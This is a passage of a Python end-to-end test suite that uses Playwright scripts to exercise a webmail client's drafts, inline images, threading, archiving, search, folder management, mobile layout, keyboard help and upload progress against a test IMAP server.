            parts = {p.get_content_type(): p.get_payload(decode=True)
                     for p in email.message_from_bytes(data[0][1]).walk()}
            html = parts.get('text/html')
        self.assertRegex(html, rb'<b>(&nbsp;| )?Bold words</b>')
        self.assertIn(b'First line. Second line. Bold words', parts['text/plain'])
        # Close, find it in Drafts, carry on editing it: still one draft.
        out = self.run_js("""
            const p = ctx.page;
            await p.click('#compose-close');
            await p.waitForSelector('#compose', { state: 'hidden' });
            await p.click('#folder-tree a.folder >> text=Drafts');
            await p.locator('#list .row', { hasText: args.s }).first().click({ position: { x: 200, y: 20 }, timeout: 10000 });
            await p.click('#reader button:has-text("Edit draft")');
            await p.waitForSelector('#compose:not([hidden])');
            await p.waitForSelector('#c-attachments li');
            const got = { subject: await p.inputValue('#c-subject'), to: await p.inputValue('#c-to'),
                          rich: await p.isChecked('#c-rich'), html: await p.innerHTML('#c-html'),
                          atts: await p.$$eval('#c-attachments li', (l) => l.map((x) => x.firstChild.textContent)) };
            const before = await p.textContent('#draft-status');
            await p.click('#c-html');
            await p.keyboard.press('End');
            await p.keyboard.type(' Edited.');
            await p.waitForFunction((b) => { const t = document.getElementById('draft-status').textContent;
                                             return t !== b && /Draft saved/.test(t); }, before, { timeout: 15000 });
            return got;
        """, s=subject)
        self.assertEqual(out['subject'], subject)
        self.assertEqual(out['to'], 'bob@example.org')
        self.assertTrue(out['rich'])
        self.assertIn('Bold words', out['html'])
        self.assertTrue(out['atts'][0].startswith('report.bin'))
        def draft_texts():
            found = self.search(imap, 'Drafts', ['SUBJECT', '"%s"' % subject])
            typ, data = imap.uid('FETCH', found[-1], '(BODY.PEEK[])')
            msg = email.message_from_bytes(data[0][1])
            return found, b''.join(p.get_payload(decode=True) or b'' for p in msg.walk()
                                   if p.get_content_maintype() == 'text')

        deadline = time.monotonic() + 5
        found, texts = draft_texts()
        while time.monotonic() < deadline and b'Edited.' not in texts:
            time.sleep(0.2)
            found, texts = draft_texts()
        self.assertEqual(len(found), 1)
        self.assertIn(b'Edited.', texts)

    def test_12_inline_image_attachment_and_conversation(self):
        png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==')
        subject = 'Inline %s' % uuid.uuid4().hex[:8]
        raw = ('From: Dan <dan@example.org>\r\nTo: alice@example.org\r\nSubject: %s\r\n'
               'Date: %s\r\nMessage-ID: <%s@test.example>\r\nMIME-Version: 1.0\r\n'
               'Content-Type: multipart/mixed; boundary="mix"\r\n\r\n'
               '--mix\r\nContent-Type: multipart/related; boundary="rel"\r\n\r\n'
               '--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n'
               '<p>Logo: <img id="logo" src="cid:logo@x" alt="logo"></p>\r\n'
               '--rel\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n'
               'Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--rel--\r\n'
               '--mix\r\nContent-Type: application/pdf; name="minutes.pdf"\r\n'
               'Content-Disposition: attachment; filename="minutes.pdf"\r\n'
               'Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--mix--\r\n'
               % (subject, email.utils.formatdate(), uuid.uuid4().hex,
                  base64.b64encode(png).decode(), base64.b64encode(b'%PDF-1.4 minutes').decode()))
        self.dovecot.append('alice', 'alice-pw', 'INBOX', raw.encode())
        self.open_app()
        self.wait_row(subject)
        out = self.run_js("""
            const p = ctx.page;
            const row = p.locator('#list .row', { hasText: args.s }).first();
            const clip = await row.locator('.clip').count();
            await row.click({ position: { x: 200, y: 20 } });
            await p.waitForSelector('#reader iframe.body-frame');
            const frame = await (await p.$('#reader iframe.body-frame')).contentFrame();
            await frame.waitForFunction(() => { const i = document.getElementById('logo');
                                                return i && i.complete && i.naturalWidth === 2; }, null, { timeout: 20000 });
            const links = await p.$$eval('#reader .attachments a', (as) => as.map((a) => [a.textContent, a.getAttribute('href')]));
            const pdf = links.find((l) => l[0].startsWith('minutes.pdf'));
            const body = pdf && await p.evaluate(async (h) => { const r = await fetch(h); return [r.status, await r.text()]; }, pdf[1]);
            return { clip, links, body, src: await frame.$eval('#logo', (i) => i.getAttribute('src')) };
        """, s=subject)
        self.assertEqual(out['clip'], 1)
        self.assertTrue(out['src'].startswith('/jmap/download/'), out['src'])
        self.assertEqual(out['body'], [200, '%PDF-1.4 minutes'])
        self.assertEqual([l[0].split(' ')[0] for l in out['links']], ['minutes.pdf'])
        # Conversations: a reply to it joins its thread, which shows both.
        re_subj = 'Re: ' + subject
        reply = message(re_subj, body='Thanks!', extra='In-Reply-To: <%s>\r\n' % re.search(
            r'Message-ID: <([^>]+)>', raw).group(1))
        self.dovecot.append('alice', 'alice-pw', 'INBOX', reply)
        self.wait_row(re_subj)
        out = self.run_js("""
            const p = ctx.page;
            await p.check('#threads-toggle');
            await p.waitForSelector('#list .row .count');
            const row = p.locator('#list .row', { hasText: args.s }).first();
            const count = await row.locator('.count').textContent();
            await row.click({ position: { x: 200, y: 20 } });
            await p.waitForFunction(() => document.querySelectorAll('#reader article').length === 2, null, { timeout: 10000 });
            return { count, subjects: await p.$$eval('#reader article .subject', (s) => s.map((e) => e.textContent)) };
        """, s=re_subj)
        self.assertEqual(out['count'], '2')
        self.assertEqual(out['subjects'], [subject, re_subj])
        self.shot('conversation')
        # Archiving the conversation's row archives both of its messages.
        self.run_js("""
            const p = ctx.page;
            await p.focus('#list');
            await p.keyboard.press('e');
            await p.waitForSelector('#toast:not([hidden])');
        """)
        imap = self.imap()
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and self.search(imap, 'INBOX', ['SUBJECT', '"%s"' % subject]):
            time.sleep(0.1)
        self.assertEqual(self.search(imap, 'INBOX', ['SUBJECT', '"%s"' % subject]), [])
        self.assertEqual(len(self.search(imap, 'Archive', ['SUBJECT', '"%s"' % subject])), 2)

    def test_13_search_and_folder_admin(self):
        self.open_app()
        subject = 'Needle %s' % uuid.uuid4().hex[:8]
        self.dovecot.append('alice', 'alice-pw', 'INBOX', message(subject, body='a haystack'))
        self.wait_row(subject)
        out = self.run_js("""
            const p = ctx.page;
            await p.focus('#list');
            await p.keyboard.press('/');
            const focused = await p.evaluate(() => document.activeElement.id);
            await p.keyboard.type(args.word);
            await p.waitForFunction((s) => { const rows = document.querySelectorAll('#list .row:not(.placeholder)');
                return rows.length === 1 && rows[0].textContent.includes(s); }, args.s, { timeout: 10000 });
            return { focused };
        """, s=subject, word=subject.split()[1])
        self.assertEqual(out['focused'], 'q')
        # Create, rename and delete a folder; IMAP sees each step.
        imap = self.imap()

        def folders():
            return [re.match(r'\(.*?\) (?:"."|NIL) "?(.*?)"?$', l.decode()).group(1) for l in imap.list()[1]]

        self.run_js("""
            const p = ctx.page;
            p.once('dialog', (d) => d.accept('Projects'));
            await p.click('#folder-new');
            await p.waitForSelector('#folder-tree a.folder[aria-current] >> text=Projects');
        """)
        self.assertIn('Projects', folders())
        self.run_js("""
            const p = ctx.page;
            p.once('dialog', (d) => d.accept('Projects 2027'));
            await p.click('#folder-rename');
            await p.waitForSelector('#folder-tree a.folder >> text=Projects 2027');
        """)
        self.assertIn('Projects 2027', folders())
        self.assertNotIn('Projects', folders())
        self.run_js("""
            const p = ctx.page;
            p.once('dialog', (d) => d.accept());
            await p.click('#folder-delete');
            await p.waitForFunction(() => ![...document.querySelectorAll('#folder-tree .name')]
                .some((n) => n.textContent.startsWith('Projects')), null, { timeout: 10000 });
        """)
        self.assertFalse([f for f in folders() if f.startswith('Projects')])

    def test_14_phone_width(self):
        self.open_app(context_opts={'viewport': {'width': 375, 'height': 740}, 'isMobile': True, 'hasTouch': True})
        out = self.run_js("""
            const p = ctx.page;
            const navHidden = !(await p.isVisible('#folders'));
            const overflow = await p.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
            await p.screenshot({ path: args.shot1 });
            await p.click('#nav-toggle');
            const navShown = await p.isVisible('#folder-tree');
            await p.click('#folder-tree a.folder >> nth=0');
            await p.locator('#list .row:not(.placeholder)').first().click({ position: { x: 150, y: 20 } });
            await p.waitForSelector('#reader article');
            const listHidden = !(await p.isVisible('#list'));
            await p.screenshot({ path: args.shot2 });
            await p.click('#reader .reader-bar button >> text=Back');
            return { navHidden, overflow, navShown, listHidden, listBack: await p.isVisible('#list') };
        """, shot1=os.path.join(SHOTS, 'phone-list.png'), shot2=os.path.join(SHOTS, 'phone-message.png'))
        self.assertEqual(out, {'navHidden': True, 'overflow': False, 'navShown': True,
                               'listHidden': True, 'listBack': True})

    def test_15_shortcut_help(self):
        axe = os.path.join(NODE_DIR, 'node_modules', 'axe-core', 'axe.min.js')
        self.open_app(context_opts={'bypassCSP': True})
        out = self.run_js("""
            const p = ctx.page;
            await p.focus('#list');
            const active = await p.evaluate(() => document.getElementById('list').getAttribute('aria-activedescendant'));
            await p.keyboard.press('?');
            await p.waitForSelector('#help:not([hidden])');
            const focused = await p.evaluate(() => document.activeElement.id);
            const text = await p.textContent('#help');
            // While it is open, shortcuts do nothing and Tab stays inside.
            await p.keyboard.press('j');
            await p.keyboard.press('Tab');
            const still = await p.evaluate(() => document.activeElement.id);
            const moved = await p.evaluate(() => document.getElementById('list').getAttribute('aria-activedescendant'));
            await p.addScriptTag({ path: args.axe });
            const r = await p.evaluate(() => axe.run(document, { resultTypes: ['violations'] }));
            const serious = r.violations.filter((v) => ['serious', 'critical'].includes(v.impact)).map((v) => v.id);
            await p.keyboard.press('Escape');
            await p.waitForSelector('#help', { state: 'hidden' });
            const back = await p.evaluate(() => document.activeElement.id);
            return { focused, text, still, same: moved === active, serious, back };
        """, axe=axe)
        self.assertEqual(out['focused'], 'help-close')
        for words in ('Keyboard shortcuts', 'compose', 'archive', 'search'):
            self.assertIn(words, out['text'])
        self.assertEqual(out['still'], 'help-close')
        self.assertTrue(out['same'], 'j moved the list behind the help')
        self.assertEqual(out['serious'], [])
        self.assertEqual(out['back'], 'list')

    def test_16_upload_progress(self):
        """An attachment's progress bar moves while it uploads (Chromium's
        network emulation slows the upload to 256 kB/s), then goes."""
        self.open_app()
        out = self.run_js("""
            const p = ctx.page;
            const cdp = await ctx.context.newCDPSession(p);
            await cdp.send('Network.enable');
            await cdp.send('Network.emulateNetworkConditions', { offline: false, latency: 0,
                downloadThroughput: -1, uploadThroughput: 256 * 1024 });
            try {
                await p.focus('#list');
                await p.keyboard.press('c');
                await p.waitForSelector('#compose:not([hidden])');
                await p.setInputFiles('#c-files', { name: 'slow.bin', mimeType: 'application/octet-stream',
                                                   buffer: Buffer.alloc(768 * 1024, 7) });
                const seen = [];
                let gone = false;
                for (const t0 = Date.now(); Date.now() - t0 < 20000; await p.waitForTimeout(50)) {
                    const v = await p.evaluate(() => {
                        const b = document.querySelector('#c-attachments progress');
                        return b ? b.value : null; });
                    if (v === null && seen.length) { gone = true; break; }
                    if (v !== null) seen.push(v);
                }
                const item = await p.textContent('#c-attachments li');
                await p.click('#c-discard');
                return { seen, gone, item };
            } finally {
                await cdp.send('Network.emulateNetworkConditions', { offline: false, latency: 0,
                    downloadThroughput: -1, uploadThroughput: -1 });
            }
        """)
        seen = out['seen']
        self.assertEqual(seen, sorted(seen), 'the bar went backwards')
        self.assertGreaterEqual(len({v for v in seen if 0 < v < 1}), 3, seen)
        self.assertTrue(out['gone'], 'the bar stayed after the upload')
        self.assertIn('slow.bin', out['item'])
        self.assertNotIn('not uploaded', out['item'])


if __name__ == '__main__':
    unittest.main()
